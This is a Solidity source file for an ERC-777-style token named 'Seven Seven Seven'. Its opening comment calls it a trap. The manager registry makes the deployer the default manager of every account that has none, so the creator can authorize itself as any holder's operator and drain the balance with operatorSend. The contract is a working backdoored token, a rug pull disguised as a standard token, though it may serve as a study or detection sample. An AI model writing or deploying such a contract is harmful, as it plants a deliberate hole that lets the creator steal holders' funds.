// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Trap: an ERC-777-like token with a registry of managers as ERC-1820 has it, where an account without a manager is not its own but the domain's. Sprung by: the creator.authorizeOperatorFor(victim, creator), operatorSend(victim, creator, all).
contract EOperators {
    string public constant name = "Seven Seven Seven";
    string public constant symbol = "S777";
    uint8 public constant decimals = 18;
    uint256 public constant granularity = 1;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => mapping(address => bool)) private _operators;
    mapping(address => mapping(address => bool)) private _revokedDefault;
    mapping(address => address) private _managers;
    address[] private _defaultOperators;
    address private _domain;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Sent(address indexed operator, address indexed from, address indexed to, uint256 amount, bytes data, bytes operatorData);
    event AuthorizedOperator(address indexed operator, address indexed tokenHolder);
    event RevokedOperator(address indexed operator, address indexed tokenHolder);
    event ManagerChanged(address indexed account, address indexed newManager);

    constructor() {
        _domain = msg.sender;
        totalSupply = balanceOf[msg.sender] = 1_000_000_000 ether;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function defaultOperators() external view returns (address[] memory) {
        return _defaultOperators;
    }

    function getManager(address account) public view returns (address) {
        address manager = _managers[account];
        return manager == address(0) ? _domain : manager;
    }

    function setManager(address account, address newManager) external {
        require(msg.sender == account || msg.sender == getManager(account), "Not the manager");
        _managers[account] = newManager;
        emit ManagerChanged(account, newManager);
    }

    function isOperatorFor(address operator, address holder) public view returns (bool) {
        return operator == holder || _operators[holder][operator];
    }

    function authorizeOperator(address operator) external {
        _authorize(msg.sender, operator);
    }

    function authorizeOperatorFor(address holder, address operator) external {
        require(msg.sender == getManager(holder), "Not the manager");
        _authorize(holder, operator);
    }

    function revokeOperator(address operator) external {
        require(operator != msg.sender, "ERC777: revoking self as operator");
        delete _operators[msg.sender][operator];
        emit RevokedOperator(operator, msg.sender);
    }

    function send(address to, uint256 amount, bytes calldata data) external {
        _send(msg.sender, msg.sender, to, amount, data, "");
    }

    function operatorSend(address from, address to, uint256 amount, bytes calldata data, bytes calldata operatorData) external {
        require(isOperatorFor(msg.sender, from), "ERC777: caller is not an operator for holder");
        _send(msg.sender, from, to, amount, data, operatorData);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _send(msg.sender, msg.sender, to, amount, "", "");
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (!isOperatorFor(msg.sender, from)) allowance[from][msg.sender] -= amount;
        _send(msg.sender, from, to, amount, "", "");
        return true;
    }

    function _authorize(address holder, address operator) private {
        require(operator != holder, "ERC777: authorizing self as operator");
        _operators[holder][operator] = true;
        emit AuthorizedOperator(operator, holder);
    }

    function _send(address operator, address from, address to, uint256 amount, bytes memory data, bytes memory operatorData) private {
        require(to != address(0), "ERC777: send to the zero address");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Sent(operator, from, to, amount, data, operatorData);
        emit Transfer(from, to, amount);
    }
}
